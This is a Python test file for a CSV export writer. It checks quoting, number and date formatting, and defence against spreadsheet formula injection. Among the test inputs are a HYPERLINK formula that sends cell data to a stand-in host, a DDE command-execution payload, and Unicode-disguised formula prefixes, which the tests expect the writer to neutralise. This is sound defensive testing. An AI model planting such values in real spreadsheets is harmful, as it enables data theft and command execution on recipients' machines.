"""CSV: what a spreadsheet and the csv module make of it."""

from __future__ import annotations

import csv
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from redqueue.processors.data_export import CsvWriter
from redqueue.processors.data_export.formats.csv import neutral

from .conftest import written


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(data.decode(), newline="")))


def test_rows_follow_rfc_4180() -> None:
    data = written(CsvWriter(), ["id", "name"], [(1, 'a "b", c'), (2, "two\r\nlines"), (3, "Zoë")])
    assert data == '"id","name"\r\n1,"a ""b"", c"\r\n2,"two\r\nlines"\r\n3,"Zoë"\r\n'.encode()
    assert read(data) == [["id", "name"], ["1", 'a "b", c'], ["2", "two\r\nlines"], ["3", "Zoë"]]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "  =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\x00=1+1",
        "\t",
    ],
)
def test_no_text_is_a_formula(text: str) -> None:
    """X28: in CSV."""
    assert neutral(text) == "'" + text
    data = written(CsvWriter(), [text], [(text,)])
    assert read(data) == [["'" + text], ["'" + text]]
    assert data.startswith(b"\"'")


@pytest.mark.parametrize("text", ["", "Ada", "a=1", "(-1)", "'=1", "Ä", "1-1", "<b>", " a", "5 + 5", "_", "\u200b"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert neutral(text) == text
    assert read(written(CsvWriter(), ["x"], [(text,)])) == [["x"], [text]]


@given(text=st.text() | st.text("=+-@\t\r\n '\"\uff1d\uff20\ufeff\u200b,;a1"))
def test_whatever_the_text_it_is_read_back_and_is_no_formula(text: str) -> None:
    ((found,),) = read(written(CsvWriter(), [text], []))
    assert found in (text, "'" + text)
    assert found[:1] not in set("\t\r\n")
    assert found.lstrip("\u200b\ufeff \t\r\n")[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")


def test_numbers_stay_numbers() -> None:
    data = written(CsvWriter(), list("abcd"), [(-1, -2.5, Decimal("-3.10"), 2**80)])
    assert data.splitlines()[1] == b"-1,-2.5,-3.10,1208925819614629174706176"


def test_numbers_have_no_exponent_unless_they_are_endless() -> None:
    numbers = ["0E-8", "-0E-9", "0E+3", "1E-8", "12E+5", "1E+300", "0E-1000"]
    rows = [[Decimal(number)] for number in numbers]
    assert written(CsvWriter(), ["x"], rows).split()[1:] == [
        *(b"0.00000000", b"-0.000000000", b"0", b"0.00000001", b"1200000", b"1E+300", b"0")
    ]


def test_other_values() -> None:
    moment = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
    rows = [(None, True, moment, date(2026, 1, 2), float("nan"), Decimal("Infinity"), {"a": [1]}, b"=1")]
    (_, row) = read(written(CsvWriter(), list("abcdefgh"), rows))
    assert row == ["", "true", "2026-01-02T03:04:05+00:00", "2026-01-02", "", "", '{"a":[1]}', "PTE="]


def test_a_byte_order_mark_is_written_when_it_is_wanted() -> None:
    assert written(CsvWriter(bom=True), ["x"], [("é",)]) == b"\xef\xbb\xbf" + written(CsvWriter(), ["x"], [("é",)])


def test_what_no_file_can_hold_is_a_question_mark() -> None:
    assert read(written(CsvWriter(), ["x"], [("a\ud800b",)])) == [["x"], ["a?b"]]


def test_many_rows_are_written_in_pieces() -> None:
    class Pieces(list[int]):
        def write(self, data: bytes) -> None:
            self.append(len(data))

    pieces, writer = Pieces(), CsvWriter()
    writer.open(pieces, ["x"], title="")
    for _ in range(10_000):
        writer.row(["y" * 100])
    writer.close()
    assert len(pieces) > 3 and max(pieces) < 300_000 and sum(pieces) == 5 + 10_000 * 104
